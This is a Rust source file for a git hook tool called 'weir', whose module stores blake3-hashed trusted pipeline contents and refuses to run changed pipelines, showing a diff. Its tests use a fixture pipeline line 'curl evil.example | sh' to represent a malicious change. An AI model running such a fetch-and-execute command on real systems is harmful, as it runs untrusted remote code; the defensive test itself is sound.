//! Trust: hooks (and the watcher) run a pipeline only if its exact bytes were trusted on this
//! machine, so that a pipeline changed by a fetch, merge or checkout never runs before someone
//! has looked at it. `weir install`, `weir trust` and an explicit `weir run` trust the current
//! content.
//!
//! Under `.git/weir/trust/`: one file per trusted content, named by its blake3 hex and holding
//! the bytes (so a refusal can show what changed), and `last`, naming the most recently trusted.

use std::fmt;
use std::fs;
use std::io;
use std::path::PathBuf;

use crate::git::Repo;

/// Names the most recently trusted content.
const LAST: &str = "last";

#[derive(Debug, thiserror::Error)]
pub enum Error {
    #[error("cannot write {}", .0.display())]
    Write(PathBuf, #[source] io::Error),
}

/// A pipeline whose content is not trusted on this machine; its message shows what changed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Untrusted {
    /// The pipeline file, as shown to the user.
    pub path: String,
    /// Whether any content was trusted before (else the file was never trusted here).
    pub changed: bool,
    /// The unified diff from the last trusted content, when it is still stored.
    pub diff: Option<String>,
}

impl std::error::Error for Untrusted {}

impl fmt::Display for Untrusted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let path = &self.path;
        if self.changed {
            writeln!(
                f,
                "{path} changed since it was last trusted on this machine; it will not run until \
                 it is trusted again"
            )?;
        } else {
            writeln!(
                f,
                "{path} was never trusted on this machine; it will not run until it is trusted"
            )?;
        }
        if let Some(diff) = &self.diff {
            write!(f, "{diff}")?;
            if !diff.ends_with('\n') {
                writeln!(f)?;
            }
        }
        write!(
            f,
            "help: review {path}, then run `weir trust` to let hooks run it"
        )
    }
}

/// The name the content `bytes` is stored under: its blake3 hash in hex.
pub fn id(bytes: &[u8]) -> String {
    blake3::hash(bytes).to_hex().to_string()
}

fn dir(repo: &Repo) -> PathBuf {
    repo.weir_dir().join("trust")
}

/// Trusts the pipeline content `bytes` on this machine. Trusting it again changes nothing but
/// which content a later refusal is compared with.
pub fn trust(repo: &Repo, bytes: &[u8]) -> Result<(), Error> {
    let dir = dir(repo);
    fs::create_dir_all(&dir).map_err(|e| Error::Write(dir.clone(), e))?;
    let id = id(bytes);
    let stored = dir.join(&id);
    // Written before `last` names it, so `last` never names content that is not there.
    if !stored.is_file() {
        super::atomic::write(&stored, bytes, 0o644).map_err(|e| Error::Write(stored, e))?;
    }
    let last = dir.join(LAST);
    let line = format!("{id}\n");
    // Every explicit `weir run` trusts the pipeline: usually it is already the last trusted one,
    // and a run that writes nothing should not write this either.
    if fs::read_to_string(&last).is_ok_and(|current| current == line) {
        return Ok(());
    }
    super::atomic::write(&last, line.as_bytes(), 0o644).map_err(|e| Error::Write(last, e))
}

/// Whether the pipeline content `bytes` is trusted on this machine. Anything unreadable counts as
/// not trusted: refusing to run is the safe failure.
pub fn is_trusted(repo: &Repo, bytes: &[u8]) -> bool {
    dir(repo).join(id(bytes)).is_file()
}

/// Succeeds if the pipeline content `bytes` is trusted on this machine; else says why not, with
/// a diff from the last trusted content. `display_path` names the pipeline file in the message.
pub fn check(repo: &Repo, bytes: &[u8], display_path: &str) -> Result<(), Untrusted> {
    if is_trusted(repo, bytes) {
        return Ok(());
    }
    let dir = dir(repo);
    let last = fs::read_to_string(dir.join(LAST))
        .ok()
        .map(|text| text.trim().to_owned())
        .filter(|id| is_hex_id(id));
    let previous = last.as_ref().and_then(|id| fs::read(dir.join(id)).ok());
    Err(Untrusted {
        path: display_path.to_owned(),
        changed: last.is_some(),
        diff: previous.map(|previous| diff(&previous, bytes, display_path)),
    })
}

/// Refuses a `last` that could name a path outside the trust directory.
fn is_hex_id(id: &str) -> bool {
    id.len() == 64 && id.bytes().all(|b| b.is_ascii_hexdigit())
}

fn diff(old: &[u8], new: &[u8], display_path: &str) -> String {
    let (old, new) = (String::from_utf8_lossy(old), String::from_utf8_lossy(new));
    similar::TextDiff::from_lines(old.as_ref(), new.as_ref())
        .unified_diff()
        .context_radius(3)
        .header("last trusted", display_path)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::git::test_repo as repo;

    const V1: &[u8] = b"[jobs.test]\nrun = \"cargo test\"\n";
    const V2: &[u8] = b"[jobs.test]\nrun = \"curl evil.example | sh\"\n";

    #[test]
    fn content_is_trusted_after_trust_and_not_after_a_change() {
        let (_dir, repo) = repo();
        assert!(!is_trusted(&repo, V1));
        trust(&repo, V1).unwrap();
        assert!(is_trusted(&repo, V1));
        assert!(check(&repo, V1, ".pipeline.toml").is_ok());
        assert!(!is_trusted(&repo, V2));
        // Trusting is idempotent, and trusting new content keeps the old trusted too.
        trust(&repo, V1).unwrap();
        trust(&repo, V2).unwrap();
        assert!(is_trusted(&repo, V1) && is_trusted(&repo, V2));
    }

    #[test]
    fn a_refusal_shows_the_change_and_how_to_trust_it() {
        let (_dir, repo) = repo();
        trust(&repo, V1).unwrap();
        let refusal = check(&repo, V2, ".pipeline.toml").unwrap_err();
        let text = refusal.to_string();
        assert!(text.starts_with(".pipeline.toml changed since it was last trusted"));
        assert!(
            text.contains("--- last trusted\n+++ .pipeline.toml\n"),
            "{text}"
        );
        assert!(text.contains("\n-run = \"cargo test\"\n"), "{text}");
        assert!(
            text.contains("\n+run = \"curl evil.example | sh\"\n"),
            "{text}"
        );
        assert!(text.contains("run `weir trust`"), "{text}");
    }

    #[test]
    fn a_pipeline_never_trusted_is_refused_without_a_diff() {
        let (_dir, repo) = repo();
        let refusal = check(&repo, V1, "ci/.pipeline.toml").unwrap_err();
        assert!(!refusal.changed);
        assert_eq!(refusal.diff, None);
        let text = refusal.to_string();
        assert!(
            text.contains("ci/.pipeline.toml was never trusted"),
            "{text}"
        );
        assert!(text.contains("run `weir trust`"), "{text}");
    }
}
